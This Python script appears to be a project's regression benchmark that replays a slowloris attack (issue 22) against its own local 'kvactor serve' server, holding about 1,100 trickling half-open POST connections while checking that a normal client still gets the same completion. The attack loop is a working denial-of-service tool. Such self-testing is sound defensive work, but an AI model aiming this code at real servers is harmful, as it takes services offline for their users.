#!/usr/bin/env python3
"""The attack of issue 22 against a running `kvactor serve`, with a good client timed meanwhile.

COUNT connections from 127.0.0.2.. (PER_ADDRESS each) send `POST /v1/completions HTTP/1.1`,
one header line, then one byte a second each, reconnecting whenever the server closes one;
every few seconds a good client on 127.0.0.1 asks for a greedy completion and must get the
same answer as alone. Standard library only.

  build/kvactor serve --port 8123 &
  bench/slowloris.py --port 8123 --count 1100 --seconds 15
"""
import argparse
import json
import resource
import socket
import time
import urllib.request


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--count", type=int, default=1100)
    ap.add_argument("--per-address", type=int, default=220)
    ap.add_argument("--seconds", type=float, default=15)
    args = ap.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    body = json.dumps({"prompt": "Once upon a time", "max_tokens": 24, "temperature": 0}).encode()

    def good():
        t0 = time.monotonic()
        req = urllib.request.Request(f"http://127.0.0.1:{args.port}/v1/completions", body,
                                     {"Content-Type": "application/json"})
        try:
            with urllib.request.urlopen(req, timeout=30) as r:
                return r.status, json.load(r)["choices"][0]["text"], (time.monotonic() - t0) * 1000
        except urllib.error.HTTPError as e:
            return e.code, "", (time.monotonic() - t0) * 1000

    _, alone, _ = good()
    opening = b"POST /v1/completions HTTP/1.1\r\nHost: x\r\nX-Slow: "

    def connect(i):
        s = socket.socket()
        s.bind((f"127.0.0.{2 + i // args.per_address}", 0))
        s.connect(("127.0.0.1", args.port))
        s.sendall(opening)
        s.setblocking(False)
        return s

    socks = [connect(i) for i in range(args.count)]
    connects, results = args.count, []
    start = time.monotonic()
    next_good = start + 1
    while time.monotonic() - start < args.seconds:
        for i, s in enumerate(socks):
            closed = False
            try:
                if not s.recv(4096):
                    closed = True
            except BlockingIOError:
                pass
            except OSError:
                closed = True
            if not closed:
                try:
                    s.send(b"a")
                except OSError:
                    closed = True
            if closed:
                s.close()
                socks[i] = connect(i)
                connects += 1
        if time.monotonic() >= next_good:
            status, text, ms = good()
            results.append({"t_s": round(time.monotonic() - start, 1), "status": status,
                            "same_answer": text == alone, "ms": round(ms, 1)})
            next_good += 4
        time.sleep(max(0.0, 1.0 - (time.monotonic() - start) % 1.0))
    print(json.dumps({"attack_connections": args.count, "reconnects": connects - args.count,
                      "good_client": results}, indent=1))


if __name__ == "__main__":
    main()
